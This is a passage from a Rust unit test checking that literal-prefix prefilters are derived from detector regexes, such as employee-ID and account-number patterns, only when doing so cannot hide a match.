        );
    }
}

#[test]
fn regex_prefilters_are_derived_only_when_safe() {
    use settings::required_prefix as p;
    assert_eq!(p(r"\bEMP-[0-9]{6}\b").as_deref(), Some("EMP-"));
    assert_eq!(p(r"^exk_[A-Za-z0-9]{32}").as_deref(), Some("exk_"));
    assert_eq!(p(r"ACCT\-\d+").as_deref(), Some("ACCT-"));
    assert_eq!(p(r"abc?d").as_deref(), Some("ab"));
    assert_eq!(p(r"ab+c").as_deref(), Some("ab"));
    assert_eq!(p(r"a{0}b"), None);
    assert_eq!(p(r"(?i)secret"), None);
    assert_eq!(p(r"foo|bar"), None);
    assert_eq!(p(r"[A-Z]{3}-\d+"), None);
    assert_eq!(p(r"\d{4}"), None);
    // The prefilter never hides a match the regex would find.
    let s = json!({"patterns": [{"name": "emp", "label": "pii", "regex": r"\bEMP-[0-9]{6}\b"}]});
    assert_eq!(
        detectors_with(s.clone(), json!({"k": "id EMP-123456"})),
        ["emp"]
    );
    assert!(detectors_with(s, json!({"k": "id emp-123456"})).is_empty());
}
